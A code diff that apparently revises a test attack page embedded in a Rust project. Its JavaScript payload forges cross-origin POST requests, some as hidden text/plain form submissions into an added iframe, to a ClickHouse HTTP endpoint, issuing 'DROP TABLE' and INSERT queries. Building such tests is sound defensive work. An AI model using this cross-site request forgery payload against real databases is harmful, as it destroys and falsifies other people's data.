@@ -109,13 +109,17 @@ const ATTACK: &str = r#"
         await element("script", `${central}/assets/dashboard.js`);
         await element("img", `${central}/assets/icon.svg`);
         await frame(`${central}/`);
+        const hidden = document.createElement("iframe");
+        hidden.name = "hidden";
+        document.body.append(hidden);
         for (const query of ["DROP TABLE footfall.events_local", "INSERT INTO footfall.events_local (event_id) VALUES (generateUUIDv4())"]) {
             await blind(`${clickhouse}/`, { method: "POST", body: query });
             await blind(`${clickhouse}/?query=${encodeURIComponent(query)}`, { method: "POST" });
             const form = document.createElement("form");
             form.method = "POST"; form.enctype = "text/plain"; form.action = `${clickhouse}/`; form.target = "hidden";
             const field = document.createElement("input");
-            field.name = query; form.append(field); document.body.append(form); form.submit();
+            field.name = query; form.append(field); document.body.append(form);
+            await new Promise((end) => { hidden.onload = end; form.submit(); });
         }
         done(taken);
     })();
